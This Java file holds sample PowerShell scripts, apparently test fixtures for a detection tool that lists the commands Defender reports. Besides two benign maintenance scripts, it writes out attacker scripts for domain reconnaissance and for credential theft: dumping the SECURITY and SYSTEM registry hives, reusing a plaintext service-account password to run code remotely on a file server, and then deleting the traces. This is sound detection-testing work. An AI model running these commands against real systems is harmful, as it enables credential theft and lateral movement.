package dev.fulgurite.samples;

import java.nio.charset.StandardCharsets;
import java.util.List;

/// A PowerShell script that somebody hands to Run Command.
///
/// @param commands what Defender reports of it, in order
record Script(String text, List<String> commands) {

    /// What Contoso runs on its servers after each patch day.
    static final Script MAINTENANCE =
            new Script(
                    """
                    # Contoso maintenance, 2026-03
                    $hotfixes = Get-HotFix | Sort-Object InstalledOn -Descending
                    $pending = Get-Service | Where-Object { $_.StartType -eq 'Automatic' -and $_.Status -ne 'Running' }
                    $pending | Start-Service
                    Write-Output "$($hotfixes.Count) updates, $($pending.Count) services started"
                    """,
                    List.of(
                            "Get-HotFix",
                            "Sort-Object",
                            "Get-Service",
                            "Where-Object",
                            "Start-Service",
                            "Write-Output"));

    static final Script DISK_SPACE =
            new Script(
                    """
                    Get-Volume | Where-Object DriveLetter | Select-Object DriveLetter, SizeRemaining, Size
                    """,
                    List.of("Get-Volume", "Where-Object", "Select-Object"));

    /// The attacker looks around.
    static final Script DISCOVERY =
            new Script(
                    """
                    whoami.exe /all
                    hostname.exe
                    ipconfig.exe /all
                    nltest.exe /dclist:corp.contoso.com
                    net.exe group "Domain Admins" /domain
                    Get-LocalGroupMember -Group Administrators
                    Get-CimInstance Win32_Service | Where-Object StartName -like 'CONTOSO*' | Select-Object Name, StartName
                    Test-NetConnection fin-files01 -Port 5985
                    """,
                    List.of(
                            "whoami.exe",
                            "HOSTNAME.EXE",
                            "ipconfig.exe",
                            "nltest.exe",
                            "net.exe",
                            "Get-LocalGroupMember",
                            "Get-CimInstance",
                            "Where-Object",
                            "Select-Object",
                            "Test-NetConnection"));

    /// The attacker takes the password of a service account from the server and goes on with it.
    static final Script CREDENTIALS_AND_ONWARD =
            new Script(
                    """
                    reg.exe save HKLM\\SECURITY C:\\Windows\\Temp\\s.hiv
                    reg.exe save HKLM\\SYSTEM C:\\Windows\\Temp\\y.hiv
                    $job = Get-Content D:\\Backup\\nightly.json | ConvertFrom-Json
                    $secret = ConvertTo-SecureString $job.password -AsPlainText -Force
                    $who = New-Object System.Management.Automation.PSCredential('CONTOSO\\svc_backup', $secret)
                    Test-WSMan fin-files01
                    Invoke-Command -ComputerName fin-files01 -Credential $who -FilePath C:\\Windows\\Temp\\f.ps1
                    Remove-Item C:\\Windows\\Temp\\*.hiv
                    """,
                    List.of(
                            "reg.exe",
                            "reg.exe",
                            "Get-Content",
                            "ConvertFrom-Json",
                            "ConvertTo-SecureString",
                            "New-Object",
                            "Test-WSMan",
                            "Invoke-Command",
                            "Remove-Item"));

    byte[] bytes() {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
